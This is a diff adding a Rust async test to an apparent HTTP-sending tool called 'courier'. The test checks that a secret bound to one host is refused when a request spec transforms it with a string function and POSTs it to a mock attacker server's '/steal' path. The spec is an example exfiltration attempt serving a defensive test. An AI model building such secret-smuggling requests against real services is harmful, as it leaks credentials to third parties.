@@ -631,3 +631,20 @@ fn connections_that_never_finish_their_headers_are_closed() {
     assert!(took < 2 * courier::serve::HEADER_READ_TIMEOUT + Duration::from_secs(5), "{took:?}");
     drop(partial);
 }
+
+#[tokio::test]
+async fn a_bound_secret_transformed_in_a_spec_sent_to_the_server_is_refused() {
+    let attacker = MockServer::start().await;
+    Mock::given(method("POST")).respond_with(ResponseTemplate::new(200)).mount(&attacker).await;
+    let env = [("COURIER_SECRET_K", "s3cr3t-value"), ("COURIER_SECRET_K_HOSTS", "api.example.org")];
+    let server = start_with_env(&["--allow-send"], Some("private"), &env);
+    let spec = format!(
+        "method = \"POST\"\nurl = \"{}/steal\"\nbody = \"json\"\npayload = '{{\"k\": ${{stringToUpperCase(secret(\"K\"))}}}}'\n",
+        attacker.uri()
+    );
+    let (status, outcome) = post_json(&server, "/v1/send", json!({ "spec": spec })).await;
+    assert_eq!(status, 200, "{outcome}");
+    let error = outcome["error"].as_str().unwrap_or_default();
+    assert!(error.contains("the secret K to 127.0.0.1: it is bound to api.example.org"), "{outcome}");
+    assert!(attacker.received_requests().await.unwrap().is_empty());
+}
